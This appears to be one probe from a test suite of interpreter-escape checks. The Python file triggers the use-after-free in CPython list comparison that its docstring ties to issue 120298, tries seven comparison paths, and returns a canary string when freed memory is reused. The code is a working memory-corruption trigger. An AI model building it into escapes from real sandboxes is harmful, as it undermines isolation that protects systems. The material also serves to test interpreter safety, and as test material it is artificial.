"""Class: memory. Source: CPython issue 120298. Escape: a technique holds an object whose memory has become
another's. The last items that two lists compare are borrowed from them, and the first one's `__lt__` has emptied
both before the second one is asked. Teeth: none, later Pythons hold them."""

import heapq


class Left:
    def __init__(self, emptied):
        self.emptied = emptied

    def __lt__(self, other):
        for each in self.emptied:
            each.clear()
        return NotImplemented

    __le__ = __lt__


TOLD = []


class Right:
    def __init__(self):
        self.as_large = True

    def __gt__(self, other):
        fresh = [Fresh() for _ in range(100)]
        # Kept, so that nothing is freed twice.
        TOLD.append((any(each is self or each is other for each in fresh), fresh, self, other))
        return True

    __ge__ = __gt__


class Fresh:
    def __init__(self):
        self.as_large = True


class Own(list):
    pass


def plainly(x, y):
    x < y


def or_same(x, y):
    x <= y


def in_tuples(x, y):
    (x,) < (y,)


def sorting(x, y):
    sorted([y, x])


def smallest(x, y):
    min([y, x])


def in_heap(x, y):
    heapq.heapify([y, x])


def by_name(x, y):
    x.__lt__(y)


def attack(model, tokenizer, address):
    for way in (plainly, or_same, in_tuples, sorting, smallest, in_heap, by_name):
        for kind in (list, Own):
            x, y = kind(), kind()
            x.append(Left([x, y]))
            y.append(Right())
            try:
                way(x, y)
            except TypeError:
                pass
    return "canary-" + "5d1f" if any(each[0] for each in TOLD) else None
